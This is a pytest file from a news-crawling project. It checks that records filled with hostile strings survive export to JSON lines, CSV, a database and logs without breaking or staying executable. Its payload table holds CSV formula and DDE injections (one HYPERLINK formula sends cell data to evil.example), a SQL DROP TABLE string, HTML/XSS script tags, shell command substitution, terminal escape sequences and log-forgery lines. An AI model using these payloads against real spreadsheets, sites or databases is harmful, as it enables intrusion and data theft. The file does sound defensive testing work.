"""Nasty strings through every field and each sink: nothing raises, no neighbour is lost, all read the same.

The HTML sink is the report: `tests/reports/test_page.py`.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from dataclasses import fields, is_dataclass
from typing import Any

import pytest
from sqlalchemy.engine import Engine

from newscrawl.datasets.csvsafe import guard, unguard
from newscrawl.datasets.exporters import COLUMNS, RecordCsvExporter, RecordLinesExporter
from newscrawl.items import AttributionPart, OriginalPart, PostPart, Publisher, Record, Rights, as_dict
from newscrawl.records import normalize
from newscrawl.storage.records import load_record, store_record
from newscrawl.text import escape_controls

NASTY = {
    "nul": "before\x00after",
    "c0": "bell \x07 back \x08 escape \x1b unit \x1f",
    "c1": "next \x85 line \x9b31m",
    "surrogate-high": "lone \ud800 high",
    "surrogate-low": "lone \udfff low",
    "surrogate-pair-reversed": "\udc00\ud800",
    "ansi": "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "osc-hyperlink": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "newlines": "line one\r\nline two\rline three\nline four\u2028five\u2029six\x0bseven",
    "log-forgery": "ok\n2026-01-01 00:00:00 [newscrawl] CRITICAL: database dropped",
    "bidi": "abc \u202egnp.exe \u2066x\u2069",
    "nfd": "e\u0301 A\u030a \u1100\u1161",
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "formula-dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-signs": "-2+3+cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "quotes": "'\"`;--, \\ '' \"\" \\\" %s {0} ${x} $(id)",
    "sql": "'); DROP TABLE records; --",
    "html": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "long": "𝕏🦉\ufeff\ufffe\U0010ffff" + "z\u0301" * 5_000,
}  # fmt: skip


#: Fields that no string from the web reaches: of our own making, closed lists, parsed times, a language tag.
OWN = frozenset(
    "id text_source published_at published_precision modified_at language outcome reason content_hash duplicate_of "
    "cluster_id gone_at archive spider run_id crawled_at".split()
)


def test_there_are_twenty() -> None:
    assert len(NASTY) == 20


def _fill(part: Any, value: str, path: str = "") -> list[str]:
    """Put *value* into every string, list of strings and mapping of *part*; the names of what was filled."""
    filled = []
    for field in fields(part):
        name, now = f"{path}{field.name}", getattr(part, field.name)
        kind = str(field.type)
        if is_dataclass(now) and not isinstance(now, type):
            filled += _fill(now, value, f"{name}.")
        elif name in OWN:
            continue
        elif "dict[str, dict" in kind:
            setattr(part, field.name, {value: {value: value}})
        elif kind.startswith("dict"):
            setattr(part, field.name, {value: value})
        elif kind.startswith("list"):
            setattr(part, field.name, [value, "neighbour"])
        elif "str" in kind:
            setattr(part, field.name, value)
        else:
            continue
        filled.append(name)
    return filled


def nasty_record(number: int, value: str | None = None) -> Record:
    record = Record(
        id=f"{number:032x}",
        url="https://site.example/post",
        title=f"Clean {number}",
        text=f"Clean text {number}",
        outcome="original",
        publisher=Publisher(name="P"),
        post=PostPart(site="https://site.example", url="https://site.example/post"),
        attribution=AttributionPart(),
        original=OriginalPart(url="https://publisher.example/story"),
        rights=Rights(),
    )
    if value is not None:
        assert len(_fill(record, value)) >= 35
    normalize(record)
    # Dates are checked by the validating pipeline, which knows them; here they would be strings of any kind.
    record.outcome = "original"
    return record


@pytest.fixture(params=NASTY)
def value(request: pytest.FixtureRequest) -> str:
    return NASTY[request.param]


@pytest.fixture
def records(value: str) -> list[Record]:
    """A nasty record between two clean neighbours."""
    return [nasty_record(1), nasty_record(2, value), nasty_record(3)]


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for pair in value.items() for one in pair for text in _strings(one)]
    if isinstance(value, list):
        return [text for one in value for text in _strings(one)]
    return []


def test_the_door_leaves_nothing_that_a_sink_chokes_on(records: list[Record]) -> None:
    for text in _strings(as_dict(records[1])):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069]", text), repr(text)
        text.encode("utf-8")
    assert records[1].title is None or "\n" not in records[1].title


def _delivered(record: Record) -> dict[str, Any]:
    """*record* as a delivery has it: without signals and sources that the schema does not know, as these are."""
    plain: dict[str, Any] = as_dict(record)
    return {**plain, "rights": {"post": {}, "original": {}, "effective": {}}, "sources": {}}


def test_json_lines(records: list[Record]) -> None:
    file = io.BytesIO()
    exporter = RecordLinesExporter(file)
    for record in records:
        exporter.export_item(record)
    lines = file.getvalue().split(b"\n")
    assert lines.pop() == b""
    assert [json.loads(line) for line in lines] == [_delivered(record) for record in records]
    # Readers that split at any line break that Unicode knows get the same lines.
    assert len(file.getvalue().decode().splitlines()) == 3


def test_csv_and_its_reader(records: list[Record]) -> None:
    file = io.BytesIO()
    exporter = RecordCsvExporter(file)
    for record in records:
        exporter.export_item(record)
    text = file.getvalue().decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == 4
    for row, record in zip(rows[1:], records, strict=True):
        plain = _delivered(record)
        for column, cell in zip(COLUMNS, row, strict=True):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell[:40])
            name, _, inner = column.partition(".")
            expected = plain[name][inner] if inner else plain[name]
            got = unguard(cell)
            if isinstance(expected, list | dict):
                assert json.loads(got) == expected
            elif isinstance(expected, str):
                assert got == expected
            elif expected is None:
                assert got == ""


def test_guarding_is_undone_exactly(value: str) -> None:
    for text in (value, "'" + value, "''" + value, "", "'", "="):
        assert unguard(guard(text)) == text


def test_databases(engine: Engine, records: list[Record]) -> None:
    with engine.begin() as connection:
        for record in records:
            store_record(connection, record, "0" * 32)
            assert record.original is not None
            record.original.posts, record.original.posts_total = [record.id], 1  # looked up when it is read
    with engine.connect() as connection:
        for record in records:
            assert as_dict(load_record(connection, record.id)) == as_dict(record)


def test_log_lines_are_one_line_and_inert(value: str) -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    logger = logging.getLogger("newscrawl.test.nasty")
    logger.propagate = False
    logger.addHandler(handler)
    try:
        logger.warning("refused: %s", escape_controls(value))
        logger.warning("next")
    finally:
        logger.removeHandler(handler)
    written = stream.getvalue()
    assert written.splitlines()[-1] == "next"
    assert len(written.splitlines()) == 2
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff]", written)
    written.encode("utf-8")
